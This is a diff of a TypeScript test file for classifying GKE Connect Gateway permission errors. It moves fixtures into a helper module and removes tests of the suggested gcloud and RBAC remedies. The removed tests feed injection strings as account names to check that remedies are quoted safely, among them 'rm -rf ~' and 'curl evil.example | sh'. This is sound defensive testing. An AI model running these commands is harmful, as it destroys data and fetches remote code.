@@ -3,59 +3,19 @@ import { CutAnswer, RefusedAnswer } from '../../google/boundedFetch';
 import { Deadline } from '../../google/Deadline';
 import { HttpFailure, ReadProblem } from '../../google/problems';
 import { status } from '../__testUtils__/cluster';
-import type { Attempt } from './attempt';
+import {
+  ACCOUNT,
+  attempt,
+  denial,
+  disabled,
+  failure,
+  HOST,
+  HTML,
+  impersonation,
+  page,
+} from '../__testUtils__/refusals';
 import { classifyGatewayError } from './classify';
 import { isPassing } from './classifyFailure';
-
-const HOST = 'europe-north1-connectgateway.googleapis.com';
-const ACCOUNT = 'fleet-reader@acme-fleet.iam.gserviceaccount.com';
-const AGENT = 'system:serviceaccount:gke-connect:connect-agent-sa';
-
-function attempt(changes: Partial<Attempt['reader']> = {}): Attempt {
-  return {
-    host: HOST,
-    permission: 'gkehub.gateway.get',
-    deadline: new Deadline(60_000),
-    reader: {
-      project: 'acme-fleet',
-      location: 'europe-north1',
-      name: 'dc1',
-      direct: false,
-      principal: ACCOUNT,
-      ...changes,
-    },
-  };
-}
-
-function failure(code: number, body: unknown, headers = {}): HttpFailure {
-  const text = typeof body === 'string' ? body : JSON.stringify(body);
-  return new HttpFailure(code, new Headers(headers), text);
-}
-
-const HTML = { 'content-type': 'text/html; charset=UTF-8' };
-const page = '<!DOCTYPE html><title>Error 404 (Not Found)!!1</title>';
-const disabled = (service: string) =>
-  googleError(403, 'PERMISSION_DENIED', 'It has not been used before', [
-    { reason: 'SERVICE_DISABLED', metadata: { service } },
-  ]);
-const denial = (
-  resource = 'rootsyncs',
-  group = 'configsync.gke.io',
-  user = ACCOUNT,
-) =>
-  status(
-    403,
-    'Forbidden',
-    `${resource}.${group} is forbidden: User "${user}" cannot list resource "${resource}" in API group "${group}" at the cluster scope`,
-    { group, kind: resource },
-  );
-const impersonation = (kind: string, name: string) =>
-  status(
-    403,
-    'Forbidden',
-    `${kind} "${name}" is forbidden: User "${AGENT}" cannot impersonate resource "${kind}" in API group "" at the cluster scope`,
-    { name, kind },
-  );
 
 describe('classifyGatewayError', () => {
   it.each<
@@ -399,88 +359,6 @@ describe('classifyGatewayError', () => {
       outcome: 'timeout',
       message: 'The reading was stopped before it was done',
     });
-  });
-});
-
-describe('remedies', () => {
-  const remedy = (
-    error: HttpFailure,
-    changes: Partial<Attempt['reader']> = {},
-  ) => classifyGatewayError(error, attempt(changes)).remedy ?? '';
-  const noRight = failure(
-    403,
-    googleError(
-      403,
-      'PERMISSION_DENIED',
-      "Permission 'gkehub.gateway.get' denied",
-    ),
-  );
-
-  it('name the role and whom to give it', () => {
-    expect(remedy(noRight)).toBe(
-      `Grant the role that has gkehub.gateway.get: gcloud projects add-iam-policy-binding acme-fleet --role=roles/gkehub.gatewayReader --member=serviceAccount:${ACCOUNT} --condition=None`,
-    );
-    expect(remedy(noRight, { principal: undefined })).toBe(
-      'Grant roles/gkehub.gatewayReader, which has gkehub.gateway.get, on project acme-fleet to the account that the portal uses',
-    );
-  });
-
-  it('have the command that lets the agent act for the account', () => {
-    expect(
-      remedy(failure(403, impersonation('users', 'a@acme.com'))),
-    ).toContain(
-      'gcloud container fleet memberships generate-gateway-rbac --membership=dc1 --users=a@acme.com --role=clusterrole/backstage-anthos-fleet-reader --project=acme-fleet',
-    );
-    expect(
-      remedy(failure(403, impersonation('groups', 'team@acme.com'))),
-    ).toContain('--groups=team@acme.com');
-  });
-
-  it('have the RBAC to apply, for all that is read', () => {
-    const yaml = remedy(failure(403, denial()));
-    expect(yaml).toContain('resources: ["rootsyncs","reposyncs"]');
-    expect(yaml).toContain('resources: ["namespaces"]');
-    expect(yaml).toContain(`kind: User, name: "${ACCOUNT}"`);
-    expect(yaml).not.toContain('"create"');
-  });
-
-  it('have a rule of its own for a right that is not on the list', () => {
-    const yaml = remedy(failure(403, denial('widgets', 'example.com')));
-    expect(yaml).toContain(
-      '- {apiGroups: ["example.com"], resources: ["widgets"], verbs: ["list"]}',
-    );
-  });
-
-  it.each([
-    'a"}\nrules: [all]',
-    'a shell: $(rm -rf ~) `id` ; & | > <',
-    'x\ny',
-    '"; curl evil.example | sh; "',
-  ])('never run what a cluster calls the account: %s', name => {
-    const quoted = JSON.stringify(name).slice(1, -1);
-    const yaml = remedy(
-      failure(403, denial('rootsyncs', 'configsync.gke.io', quoted)),
-    ).split('\n');
-    expect(yaml).toHaveLength(
-      remedy(failure(403, denial())).split('\n').length,
-    );
-    const [, user] = /^- \{.* name: (.*)\}$/.exec(yaml.at(-1) ?? '') ?? [];
-    expect(JSON.parse(user)).toContain(name.slice(0, 1));
-    const command = remedy(failure(403, impersonation('users', quoted)));
-    expect(command.split(': gcloud ')[1]).toMatch(/^[\w @.:/=-]+$/);
-  });
-
-  it('stay short, however long the names are', () => {
-    const name = 'a'.repeat(500_000);
-    expect(
-      remedy(failure(403, impersonation('users', name))).length,
-    ).toBeLessThan(2_000);
-    const problem = classifyGatewayError(
-      failure(403, denial('rootsyncs', 'configsync.gke.io', name)),
-      attempt(),
-    );
-    expect(problem.message.length).toBeLessThan(2_000);
-    expect(problem.remedy?.length).toBeLessThan(2_000);
   });
 });
 
